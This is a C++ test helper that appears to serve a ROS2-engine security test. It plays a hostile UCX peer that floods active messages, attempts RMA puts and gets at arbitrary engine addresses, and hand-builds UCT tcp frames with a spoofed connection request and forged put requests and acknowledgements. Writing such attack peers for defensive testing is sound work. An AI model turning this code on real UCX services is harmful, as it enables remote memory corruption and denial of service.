// ucx_tcp_attack_peer: a hostile UCX peer written from plain ucp calls (no
// ROS2 transport code), for ucx_tcp_attack_test.cc. It reads its UCX settings
// from the environment the test gives it (UCX_TCP_TX_SEG_SIZE,
// UCX_TCP_RX_SEG_SIZE, UCX_RNDV_THRESH, UCX_ZCOPY_THRESH, ...), connects to a
// ros2-engine target's UCX worker address and sends active messages, or a
// put or get at an address of the engine, without any hello or capability.
// With tcp_put= it speaks UCT's tcp wire protocol itself: it finds the
// engine's UCX tcp port through a ucp connection, opens a socket of its own,
// sends UCT's connection request and then a transport-level put request (the
// message UCX's rendezvous uses to write into an announced buffer) naming an
// address of the engine, or an acknowledgement of a put the engine never sent.
//
// Usage: ucx_tcp_attack_peer address=<hex UCX worker address> size=<bytes>
//          [count=<n>] [eager=1] [linger_ms=<ms>]
//        ucx_tcp_attack_peer address=<hex> rma=put|get remote=<hex address>
//        ucx_tcp_attack_peer address=<hex> tcp_put=req|ack remote=<hex address>
// Prints "RESULT <name> <value>" lines: sent (messages whose send completed
// without error), first_error (the first failed send's status, or "none"),
// ep_error (the status the endpoint's error handler saw, or "none"); with
// rma=: rma (the put's or get's status once flushed, within 5 s); with
// tcp_put=: connected (yes once the engine acknowledged the connection
// request), closed (yes when the engine closed the socket within 5 s of the
// put message), put_acked (yes when it acknowledged the put). Exits 0 when it
// ran, whatever the engine did.
#include <arpa/inet.h>
#include <dirent.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>
#include <ucp/api/ucp.h>
#include <unistd.h>

#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <map>
#include <set>
#include <string>
#include <vector>

namespace {

std::map<std::string, std::string> g_args;

std::string Arg(const std::string& key, const std::string& fallback = "") {
  auto it = g_args.find(key);
  return it == g_args.end() ? fallback : it->second;
}

void Result(const char* name, const std::string& value) {
  printf("RESULT %s %s\n", name, value.c_str());
  fflush(stdout);
}

ucs_status_t g_ep_error = UCS_OK;

void OnEpError(void*, ucp_ep_h, ucs_status_t status) {
  if (g_ep_error == UCS_OK) g_ep_error = status;
}

void OnSent(void*, ucs_status_t, void*) {}

// Progresses until `request` completes or `deadline`; its final status.
ucs_status_t Wait(ucp_worker_h worker, ucs_status_ptr_t request, std::chrono::steady_clock::time_point deadline) {
  if (request == nullptr) return UCS_OK;
  if (UCS_PTR_IS_ERR(request)) return UCS_PTR_STATUS(request);
  ucs_status_t st = UCS_INPROGRESS;
  while ((st = ucp_request_check_status(request)) == UCS_INPROGRESS && std::chrono::steady_clock::now() < deadline) {
    ucp_worker_progress(worker);
  }
  if (st == UCS_INPROGRESS) {
    // A request the peer never answers (RMA requests cannot be cancelled):
    // left behind, the process exits without cleaning up.
    ucp_request_cancel(worker, request);
    return UCS_ERR_TIMED_OUT;
  }
  ucp_request_free(request);
  return st;
}

// A put or get of 16 bytes at `remote=` in the engine, with an rkey of the
// attacker's own memory (software RMA ignores it), then a flush.
int RunRma(ucp_context_h context, ucp_worker_h worker, ucp_ep_h ep) {
  static char buf[16];
  std::memset(buf, 'Z', sizeof(buf));
  ucp_mem_map_params_t mp{};
  mp.field_mask = UCP_MEM_MAP_PARAM_FIELD_ADDRESS | UCP_MEM_MAP_PARAM_FIELD_LENGTH;
  mp.address = buf;
  mp.length = sizeof(buf);
  ucp_mem_h memh = nullptr;
  void* packed = nullptr;
  size_t packed_size = 0;
  ucp_rkey_h rkey = nullptr;
  if (ucp_mem_map(context, &mp, &memh) != UCS_OK || ucp_rkey_pack(context, memh, &packed, &packed_size) != UCS_OK ||
      ucp_ep_rkey_unpack(ep, packed, &rkey) != UCS_OK) {
    fprintf(stderr, "ucx_tcp_attack_peer: no rkey\n");
    return 1;
  }
  const uint64_t remote = std::strtoull(Arg("remote", "10").c_str(), nullptr, 16);
  ucp_request_param_t rp{};
  const auto deadline = std::chrono::steady_clock::now() + std::chrono::seconds(5);
  ucs_status_t st = Arg("rma") == "put" ? Wait(worker, ucp_put_nbx(ep, buf, 8, remote, rkey, &rp), deadline)
                                        : Wait(worker, ucp_get_nbx(ep, buf, sizeof(buf), remote, rkey, &rp), deadline);
  if (st == UCS_OK) st = Wait(worker, ucp_ep_flush_nbx(ep, &rp), deadline);
  Result("rma", ucs_status_string(st));
  Result("ep_error", g_ep_error == UCS_OK ? "none" : ucs_status_string(g_ep_error));
  // The dropped operation is still outstanding: no orderly teardown.
  std::_Exit(0);
}

// UCT's tcp framing (UCX 1.13, src/uct/tcp/tcp.h): a connection opens with an
// 8-byte magic number, then every message is a 5-byte header {uint8 am_id,
// uint32 length} and `length` bytes; internal ids follow the 32 user ids.
constexpr uint64_t kMagicNumber = 0xCAFEBABE12345678ull;
constexpr uint8_t kCmAmId = 32, kPutReqAmId = 33, kPutAckAmId = 34;
constexpr uint32_t kConnReq = 1, kConnAck = 2;

void AppendFrame(std::vector<uint8_t>& out, uint8_t am_id, const std::vector<uint8_t>& body) {
  const uint32_t length = static_cast<uint32_t>(body.size());
  out.push_back(am_id);
  out.insert(out.end(), reinterpret_cast<const uint8_t*>(&length), reinterpret_cast<const uint8_t*>(&length) + 4);
  out.insert(out.end(), body.begin(), body.end());
}

template <typename T>
void AppendRaw(std::vector<uint8_t>& out, const T& v) {
  out.insert(out.end(), reinterpret_cast<const uint8_t*>(&v), reinterpret_cast<const uint8_t*>(&v) + sizeof(v));
}

// Candidates for the engine's UCX tcp listening address: the peers of this
// process's connected tcp sockets that are not accepted by one of its own
// listeners (after ucp connected to the engine, those go to the engine's
// interface). More than one when UCX keeps another connection to the engine
// at that moment (e.g. one being replaced): the caller tries each.
std::vector<sockaddr_in> EngineTcpAddresses() {
  std::vector<int> fds;
  if (DIR* d = opendir("/proc/self/fd")) {
    while (dirent* e = readdir(d)) {
      if (e->d_name[0] != '.') fds.push_back(std::atoi(e->d_name));
    }
    closedir(d);
  }
  std::set<uint16_t> listening;
  std::vector<int> connected;
  for (int fd : fds) {
    sockaddr_in self{};
    socklen_t len = sizeof(self);
    int type = 0, accepting = 0;
    socklen_t ilen = sizeof(int);
    if (getsockname(fd, reinterpret_cast<sockaddr*>(&self), &len) != 0 || self.sin_family != AF_INET) continue;
    if (getsockopt(fd, SOL_SOCKET, SO_TYPE, &type, &ilen) != 0 || type != SOCK_STREAM) continue;
    if (getsockopt(fd, SOL_SOCKET, SO_ACCEPTCONN, &accepting, &ilen) == 0 && accepting) {
      listening.insert(self.sin_port);
    } else {
      connected.push_back(fd);
    }
  }
  std::vector<sockaddr_in> out;
  for (int fd : connected) {
    sockaddr_in self{}, peer{};
    socklen_t len = sizeof(self), plen = sizeof(peer);
    if (getsockname(fd, reinterpret_cast<sockaddr*>(&self), &len) != 0 || listening.count(self.sin_port)) continue;
    if (getpeername(fd, reinterpret_cast<sockaddr*>(&peer), &plen) != 0) continue;
    out.push_back(peer);
  }
  return out;
}

// Reads the engine's messages on `fd` until it closes the socket or
// `deadline`; notes a connection acknowledgement and a put acknowledgement.
bool ReadUntilClosed(int fd, std::chrono::steady_clock::time_point deadline, bool* conn_acked, bool* put_acked) {
  std::vector<uint8_t> in;
  while (std::chrono::steady_clock::now() < deadline) {
    pollfd p{fd, POLLIN, 0};
    if (poll(&p, 1, 50) <= 0) continue;
    uint8_t buf[4096];
    const ssize_t n = recv(fd, buf, sizeof(buf), 0);
    if (n <= 0) return true;
    in.insert(in.end(), buf, buf + n);
    while (in.size() >= 5) {
      uint32_t length = 0;
      std::memcpy(&length, &in[1], 4);
      if (in.size() < 5 + length) break;
      uint32_t event = 0;
      if (in[0] == kCmAmId && length >= 4) std::memcpy(&event, &in[5], 4);
      if (in[0] == kCmAmId && (event & kConnAck)) *conn_acked = true;
      if (in[0] == kPutAckAmId) *put_acked = true;
      in.erase(in.begin(), in.begin() + 5 + length);
    }
  }
  return false;
}

// tcp_put=req: a put request of 8 bytes at `remote=` of the engine, with the
// 8 bytes after it; tcp_put=ack: an acknowledgement of put number
// UINT32_MAX, the sequence number of an endpoint that never put.
int RunTcpPut() {
  const std::vector<sockaddr_in> candidates = EngineTcpAddresses();
  if (candidates.empty()) {
    fprintf(stderr, "ucx_tcp_attack_peer: found no tcp connection to the engine\n");
    return 1;
  }
  int fd = -1;
  for (const sockaddr_in& engine : candidates) {
    fd = socket(AF_INET, SOCK_STREAM, 0);
    if (fd < 0) break;
    if (connect(fd, reinterpret_cast<const sockaddr*>(&engine), sizeof(engine)) == 0) break;
    fprintf(stderr, "ucx_tcp_attack_peer: connect to port %u: %s\n", ntohs(engine.sin_port), strerror(errno));
    close(fd);
    fd = -1;
  }
  if (fd < 0) {
    fprintf(stderr, "ucx_tcp_attack_peer: none of %zu candidate addresses of the engine took a connection\n",
            candidates.size());
    return 1;
  }
  // The connection request: {event, flags, conn_sn} and the socket address
  // of the interface it claims to come from (a port nobody listens on).
  std::vector<uint8_t> req, out;
  AppendRaw(req, kConnReq);
  AppendRaw(req, uint8_t{0});
  AppendRaw(req, uint64_t{0x5eed});
  sockaddr_in claimed{};
  claimed.sin_family = AF_INET;
  claimed.sin_port = htons(9);
  claimed.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  AppendRaw(req, claimed);
  AppendRaw(out, kMagicNumber);
  AppendFrame(out, kCmAmId, req);
  bool conn_acked = false, put_acked = false;
  if (send(fd, out.data(), out.size(), MSG_NOSIGNAL) != static_cast<ssize_t>(out.size())) return 1;
  ReadUntilClosed(fd, std::chrono::steady_clock::now() + std::chrono::milliseconds(500), &conn_acked, &put_acked);
  Result("connected", conn_acked ? "yes" : "no");

  out.clear();
  std::vector<uint8_t> body;
  if (Arg("tcp_put") == "ack") {
    AppendRaw(body, uint32_t{UINT32_MAX});
    AppendFrame(out, kPutAckAmId, body);
  } else {
    AppendRaw(body, uint64_t{std::strtoull(Arg("remote", "10").c_str(), nullptr, 16)});  // addr
    AppendRaw(body, uint64_t{8});                                                        // length
    AppendRaw(body, uint32_t{0});                                                        // sn
    AppendFrame(out, kPutReqAmId, body);
    out.insert(out.end(), 8, 'Z');
  }
  const bool sent = send(fd, out.data(), out.size(), MSG_NOSIGNAL) == static_cast<ssize_t>(out.size());
  const bool closed =
      ReadUntilClosed(fd, std::chrono::steady_clock::now() + std::chrono::seconds(5), &conn_acked, &put_acked);
  Result("sent", sent ? "1" : "0");
  Result("closed", closed ? "yes" : "no");
  Result("put_acked", put_acked ? "yes" : "no");
  close(fd);
  std::_Exit(0);
}

int Run() {
  std::vector<uint8_t> address;
  const std::string hex = Arg("address");
  for (size_t i = 0; i + 1 < hex.size(); i += 2) {
    address.push_back(static_cast<uint8_t>(std::strtoul(hex.substr(i, 2).c_str(), nullptr, 16)));
  }
  const size_t size = std::strtoull(Arg("size", "1048576").c_str(), nullptr, 10);
  const int count = std::atoi(Arg("count", "1").c_str());
  const bool eager = Arg("eager", "1") == "1";
  const int linger_ms = std::atoi(Arg("linger_ms", "1000").c_str());
  if (address.empty() || size == 0) {
    fprintf(stderr, "ucx_tcp_attack_peer: address= and size= are required\n");
    return 2;
  }

  ucp_config_t* config = nullptr;
  if (ucp_config_read(nullptr, nullptr, &config) != UCS_OK) return 1;
  ucp_params_t params{};
  params.field_mask = UCP_PARAM_FIELD_FEATURES;
  params.features = UCP_FEATURE_AM | UCP_FEATURE_RMA;
  ucp_context_h context = nullptr;
  ucs_status_t st = ucp_init(&params, config, &context);
  ucp_config_release(config);
  if (st != UCS_OK) {
    fprintf(stderr, "ucp_init: %s\n", ucs_status_string(st));
    return 1;
  }
  ucp_worker_params_t wp{};
  wp.field_mask = UCP_WORKER_PARAM_FIELD_THREAD_MODE;
  wp.thread_mode = UCS_THREAD_MODE_SINGLE;
  ucp_worker_h worker = nullptr;
  if ((st = ucp_worker_create(context, &wp, &worker)) != UCS_OK) {
    fprintf(stderr, "ucp_worker_create: %s\n", ucs_status_string(st));
    return 1;
  }
  ucp_ep_params_t ep_params{};
  ep_params.field_mask =
      UCP_EP_PARAM_FIELD_REMOTE_ADDRESS | UCP_EP_PARAM_FIELD_ERR_HANDLING_MODE | UCP_EP_PARAM_FIELD_ERR_HANDLER;
  ep_params.address = reinterpret_cast<const ucp_address_t*>(address.data());
  ep_params.err_mode = UCP_ERR_HANDLING_MODE_PEER;
  ep_params.err_handler.cb = OnEpError;
  ucp_ep_h ep = nullptr;
  if ((st = ucp_ep_create(worker, &ep_params, &ep)) != UCS_OK) {
    fprintf(stderr, "ucp_ep_create: %s\n", ucs_status_string(st));
    return 1;
  }

  if (!Arg("rma").empty()) return RunRma(context, worker, ep);
  if (!Arg("tcp_put").empty()) {
    // One message through ucp, so that its tcp connections to the engine
    // exist, then the raw socket.
    char probe[8] = {};
    ucp_request_param_t rp{};
    Wait(worker, ucp_am_send_nbx(ep, /*id=*/7, nullptr, 0, probe, sizeof(probe), &rp),
         std::chrono::steady_clock::now() + std::chrono::seconds(5));
    const auto settle = std::chrono::steady_clock::now() + std::chrono::milliseconds(200);
    while (std::chrono::steady_clock::now() < settle) ucp_worker_progress(worker);
    return RunTcpPut();
  }
  std::vector<char> payload(size, 'A');
  int sent = 0;
  std::string first_error = "none";
  for (int i = 0; i < count && g_ep_error == UCS_OK; ++i) {
    ucp_request_param_t rp{};
    rp.op_attr_mask = UCP_OP_ATTR_FIELD_CALLBACK | UCP_OP_ATTR_FIELD_FLAGS;
    rp.cb.send = OnSent;
    rp.flags = eager ? UCP_AM_SEND_FLAG_EAGER : 0;
    ucs_status_ptr_t req = ucp_am_send_nbx(ep, /*id=*/7, nullptr, 0, payload.data(), payload.size(), &rp);
    st = Wait(worker, req, std::chrono::steady_clock::now() + std::chrono::seconds(10));
    if (st == UCS_OK) {
      ++sent;
    } else if (first_error == "none") {
      first_error = ucs_status_string(st);
    }
  }
  // Long enough for the engine to see the messages and close the connection.
  const auto linger = std::chrono::steady_clock::now() + std::chrono::milliseconds(linger_ms);
  while (std::chrono::steady_clock::now() < linger) ucp_worker_progress(worker);

  Result("sent", std::to_string(sent));
  Result("first_error", first_error);
  Result("ep_error", g_ep_error == UCS_OK ? "none" : ucs_status_string(g_ep_error));
  // Skip the endpoint's close handshake: a hostile peer just goes away.
  ucp_request_param_t close{};
  close.op_attr_mask = UCP_OP_ATTR_FIELD_FLAGS;
  close.flags = UCP_EP_CLOSE_FLAG_FORCE;
  Wait(worker, ucp_ep_close_nbx(ep, &close), std::chrono::steady_clock::now() + std::chrono::seconds(2));
  ucp_worker_destroy(worker);
  ucp_cleanup(context);
  return 0;
}

}  // namespace

int main(int argc, char** argv) {
  // Descriptors the test process leaked into this one (UCX opens its sockets
  // without close-on-exec): EngineTcpAddresses must see only this process's
  // own connections, not, say, a test's half-closed one to a port nobody
  // listens on any more.
  if (::close_range(3, ~0U, 0) != 0) {
    perror("ucx_tcp_attack_peer: close_range");
    return 2;
  }
  for (int i = 1; i < argc; ++i) {
    const char* eq = std::strchr(argv[i], '=');
    if (eq == nullptr) {
      fprintf(stderr, "ucx_tcp_attack_peer: argument '%s' is not key=value\n", argv[i]);
      return 2;
    }
    g_args[std::string(argv[i], static_cast<size_t>(eq - argv[i]))] = eq + 1;
  }
  return Run();
}
